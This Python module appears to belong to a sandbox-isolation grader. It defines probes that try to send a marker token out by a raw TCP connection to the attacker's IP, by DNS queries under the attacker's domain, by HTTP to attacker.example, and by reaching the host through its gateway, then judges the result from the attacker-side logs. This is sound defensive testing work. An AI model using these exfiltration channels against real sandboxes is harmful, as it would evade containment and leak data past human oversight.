"""The network channels one probe each: a raw connection to the attacker's IP, data in DNS queries,
the attacker's own server by name, and a service on the machine that runs the sandbox.

Each tries one way out and is judged from the one log that way leaves (the
attacker's TCP server, its nameserver, its web server, the host's listener).

Pure.
"""

from __future__ import annotations

from dataclasses import replace

from grader.core.access import Access
from grader.core.evidence import Evidence, Markers, Verdict, http_hits, in_zone, net_blocked
from grader.core.probes.record import OrderContext, Prediction, Probe, Step, fix_network, web_url
from grader.core.world import World
from grader.protocol.common import TCP_SINK_PORT
from grader.protocol.wire import DnsStep, HttpStep, TcpGatewaysStep, TcpStep

__all__ = ["ATTACKER_DOMAIN", "DIRECT_IP", "DNS_EXFIL", "HOST_GATEWAY"]


# --- a raw connection to the attacker's IP ----------------------------------------------------


def _direct_orders(p: Probe, ctx: OrderContext) -> list[Step]:
    return [TcpStep(host=ctx.attacker_ip, port=ctx.raw.at(TCP_SINK_PORT), payload=ctx.markers.direct + "\n")]


def _direct_predict(p: Probe, access: Access) -> Prediction:
    if access.network == "open":
        return True, "Ordinary networking: nothing stops a raw connection to the attacker's IP address."
    if access.network == "none":
        return False, "The sandbox has no network at all (allowedDomains is empty)."
    return False, "The sandbox's only way out is the egress proxy, which speaks HTTP by host name; raw connections to an IP go nowhere."


def _direct_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
    marker = Markers(ev.token, world.attacker.name).direct
    hits = [r for r in ev.tcp if r.port == ev.raw.at(TCP_SINK_PORT) and r.data.startswith(marker)]
    if hits:
        return Verdict("succeeded", "A raw connection reached the attacker's IP.", (f"the attacker's server at {hits[0].client}→port {TCP_SINK_PORT} received the probe's token",))
    return net_blocked(p.id, ev, "The raw connection")


# --- data in DNS queries ----------------------------------------------------------------------


def _dns_orders(p: Probe, ctx: OrderContext) -> list[Step]:
    m = ctx.markers
    # its own resolver, and through the proxy, which looks names up for whoever it lets through
    return [DnsStep(name=m.dns_name), HttpStep(method="GET", url=web_url(ctx, m.dns_via_proxy, "/", prefer="http"))]


def _dns_predict(p: Probe, access: Access) -> Prediction:
    attacker = access.world.attacker.name
    if access.network == "open":
        return True, f"Ordinary DNS: a query for <data>.{attacker} reaches the attacker's nameserver."
    if access.reach_fresh_subdomain(attacker):
        return True, f'"*.{attacker}" is allowed, so the proxy looks up <data>.{attacker} at the attacker\'s nameserver.'
    if access.network == "none":
        return False, "The sandbox has no network at all, not even DNS."
    return False, "The sandbox cannot resolve names itself; the proxy looks up only allowed names, and none under the attacker's domain."


def _dns_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
    attacker = world.attacker.name
    prefix = Markers(ev.token, attacker).dns_name.split(".", 1)[0]  # the token-bearing first label
    hits = [q for q in ev.dns if q.qname.startswith(prefix) and in_zone(q.qname.rstrip("."), attacker)]
    if hits:
        return Verdict("succeeded", "Data reached the attacker's nameserver inside a DNS query.", (f"the attacker's nameserver logged a query for {hits[0].qname} from {hits[0].client}",))
    return net_blocked(p.id, ev, "The DNS query")


# --- the attacker's own server ----------------------------------------------------------------


def _attacker_orders(p: Probe, ctx: OrderContext) -> list[Step]:
    return [HttpStep(method="GET", url=web_url(ctx, ctx.markers.attacker, ctx.markers.ping_path, prefer="http"))]


def _attacker_predict(p: Probe, access: Access) -> Prediction:
    attacker = access.world.attacker.name
    d = access.reach(attacker)
    return d.allowed, f"{attacker} is {'reachable' if d.allowed else 'unreachable'}: {d.why}."


def _attacker_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
    attacker = world.attacker.name
    path = Markers(ev.token, attacker).ping_path
    hits = http_hits(ev, lambda r: r.host == attacker and path in r.path)
    if hits:
        return Verdict("succeeded", f"The sandbox reached {attacker}.", (f"{attacker} logged {hits[0].method} {hits[0].path} over {hits[0].scheme}",))
    return net_blocked(p.id, ev, f"The connection to {attacker}")


def _attacker_fix(p: Probe, access: Access) -> str:
    return f"remove every network.allowedDomains entry that matches {access.world.attacker.name}"


# --- the machine that runs the sandbox --------------------------------------------------------


def _gateway_orders(p: Probe, ctx: OrderContext) -> list[Step]:
    # the runner adds the default gateways it finds in its own routing table
    return [TcpGatewaysStep(names=tuple(ctx.gateway_names), port=ctx.host_port, payload=ctx.markers.host_payload + "\n")]


def _gateway_predict(p: Probe, access: Access) -> Prediction:
    if access.network == "open":
        return True, "Ordinary networking reaches services on the machine that runs the container."
    return False, "The sandbox has no route to the machine it runs on" + (" (no network at all)." if access.network == "none" else ": only the proxy speaks for it.")


def _gateway_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
    marker = Markers(ev.token, world.attacker.name).host_payload
    if any(marker in h for h in ev.host_hits):
        # the listener is the grader's on its own machine, or one on the Docker engine's host when that is elsewhere
        return Verdict("succeeded", "The sandbox reached a service on the real host.", ("a listener on the sandbox's real host received the probe's token",))
    hits = [r for r in ev.tcp if r.port == ev.host_port and marker in r.data]
    if hits:
        return Verdict("succeeded", "The sandbox reached a service on its host.", (f"the host's stand-in service (port {ev.host_port}) received the probe's token",))
    outcome = net_blocked(p.id, ev, "The connection to the host")
    if outcome.outcome == "blocked":
        return replace(outcome, proof=outcome.proof + ("the listener on the sandbox's real host received nothing",))
    return outcome


# --- the records ---------------------------------------------------------------------------------

DIRECT_IP = Probe("net-direct-ip", "attack", "net", "Open a raw TCP connection straight to the attacker's IP address, bypassing any proxy.", _direct_orders, _direct_predict, _direct_judge, fix_network)
DNS_EXFIL = Probe("net-dns-exfil", "attack", "net", "Smuggle data out inside DNS queries for names under the attacker's domain.", _dns_orders, _dns_predict, _dns_judge, fix_network)
ATTACKER_DOMAIN = Probe("net-attacker-domain", "attack", "net", "Connect to the attacker's own server, attacker.example.", _attacker_orders, _attacker_predict, _attacker_judge, _attacker_fix)
HOST_GATEWAY = Probe("net-host-gateway", "attack", "net", "Reach a service listening on the machine that runs the sandbox (the host, via its gateway).", _gateway_orders, _gateway_predict, _gateway_judge, fix_network)
